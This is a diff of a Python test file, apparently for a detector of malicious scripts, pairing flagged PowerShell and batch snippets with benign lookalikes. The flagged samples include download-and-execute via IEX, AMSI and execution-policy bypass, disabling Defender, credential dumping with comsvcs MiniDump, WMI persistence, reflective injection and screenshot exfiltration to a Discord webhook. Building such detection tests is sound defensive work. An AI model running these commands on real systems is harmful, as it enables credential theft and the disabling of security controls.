@@ -1,3 +1,4 @@
+# ruff: noqa: E501 -- a line of a script is one line here, too
 from tests.engine.script_texts import encoded, pair
 
 FETCH = "(New-Object Net.Web¦Client).Down¦loadString('https://example.com/a')"
@@ -5,12 +6,18 @@ HONEST = "$text = Get-Content .\\list.txt\n$text | ForEach-Object { Write-Output
 
 CASES = {
     "powershell.encoded_command": pair(
-        "a.bat", f"powershell -NoProfile -enc {encoded('Get-Date | Out-File C:/now.txt')}\r\n", "powershell -NoProfile -File now.ps1\r\n"
+        "a.bat",
+        f"powershell -NoProfile -enc {encoded('Get-Date | Out-File C:/now.txt')}\r\n",
+        "powershell -NoProfile -File now.ps1\r\n",
     ),
     "powershell.download_run": pair("a.ps1", f"I¦EX {FETCH}\n", f"$version = {FETCH}\nWrite-Output $version\n"),
-    "powershell.hidden_window": pair("a.bat", "powershell -WindowStyle Hid¦den -File job.ps1\r\n", "powershell -File job.ps1\r\n"),
+    "powershell.hidden_window": pair(
+        "a.bat", "powershell -WindowStyle Hid¦den -File job.ps1\r\n", "powershell -File job.ps1\r\n"
+    ),
     "powershell.policy_bypass": pair(
-        "a.bat", "powershell -ExecutionPolicy By¦pass -File job.ps1\r\n", "powershell -ExecutionPolicy RemoteSigned -File job.ps1\r\n"
+        "a.bat",
+        "powershell -ExecutionPolicy By¦pass -File job.ps1\r\n",
+        "powershell -ExecutionPolicy RemoteSigned -File job.ps1\r\n",
     ),
     "powershell.amsi_bypass": pair(
         "a.ps1",
@@ -24,7 +31,7 @@ CASES = {
     ),
     "powershell.shellcode": pair(
         "a.ps1",
-        "$code = '[DllImport(\"kernel32.dll\")] public static extern IntPtr Virtual¦Alloc(IntPtr a, uint b, uint c, uint d);"
+        '$code = \'[DllImport("kernel32.dll")] public static extern IntPtr Virtual¦Alloc(IntPtr a, uint b, uint c, uint d);'
         " public static extern IntPtr Create¦Thread(IntPtr a);'\n[Byte[]]$b = 1,2\n[Runtime.InteropServices.Marshal]::Copy($b, 0, $p, 2)\n",
         "$code = '[DllImport(\"user32.dll\")] public static extern int MessageBox(int a, string b, string c, int d);'\nAdd-Type -MemberDefinition $code -Name W\n",
     ),
@@ -42,12 +49,18 @@ CASES = {
         "if ([W.U]::GetAsyncKeyState(27)) { 'Escape was pressed' }\n",
     ),
     "powershell.credential_dump": pair(
-        "a.bat", "rundll32 C:\\windows\\system32\\coms¦vcs.dll, Mini¦Dump 624 C:\\l.dmp full\r\n", "rundll32 printui.dll,PrintUIEntry /il\r\n"
+        "a.bat",
+        "rundll32 C:\\windows\\system32\\coms¦vcs.dll, Mini¦Dump 624 C:\\l.dmp full\r\n",
+        "rundll32 printui.dll,PrintUIEntry /il\r\n",
     ),
     "powershell.defender_off": pair(
-        "a.ps1", "Set-Mp¦Preference -DisableRealtime¦Monitoring $true\n", "Set-MpPreference -DisableRealtimeMonitoring $false\n"
+        "a.ps1",
+        "Set-Mp¦Preference -DisableRealtime¦Monitoring $true\n",
+        "Set-MpPreference -DisableRealtimeMonitoring $false\n",
     ),
-    "powershell.defender_exclusion": pair("a.ps1", "Add-Mp¦Preference -Exclusion¦Path 'C:\\build'\n", "Get-MpPreference | Select-Object *\n"),
+    "powershell.defender_exclusion": pair(
+        "a.ps1", "Add-Mp¦Preference -Exclusion¦Path 'C:\\build'\n", "Get-MpPreference | Select-Object *\n"
+    ),
     "powershell.wmi_subscription": pair(
         "a.ps1",
         "$f = Set-WmiInstance -Class __Event¦Filter -Arguments $a\n$c = Set-WmiInstance -Class CommandLineEvent¦Consumer -Arguments $b\n"
@@ -59,7 +72,11 @@ CASES = {
         "$shot.CopyFrom¦Screen(0,0,0,0,$size)\nInvoke-RestMethod -Uri https://discord.com/api/web¦hooks/1/x -Method Post -InFile s.png\n",
         "Invoke-RestMethod -Uri https://hooks.example.com/build -Method Post -Body 'the build is done'\n",
     ),
-    "powershell.memory_inject_tool": pair("a.ps1", "Invoke-Reflective¦PEInjection -PEBytes $b -ProcId 4\n", "Invoke-Command -ComputerName srv1 -ScriptBlock { hostname }\n"),
+    "powershell.memory_inject_tool": pair(
+        "a.ps1",
+        "Invoke-Reflective¦PEInjection -PEBytes $b -ProcId 4\n",
+        "Invoke-Command -ComputerName srv1 -ScriptBlock { hostname }\n",
+    ),
     "powershell.hidden_download_run": pair(
         "a.bat", f'powershell -w hid¦den -c "I¦EX {FETCH}"\r\n', 'powershell -c "Get-Date"\r\n'
     ),
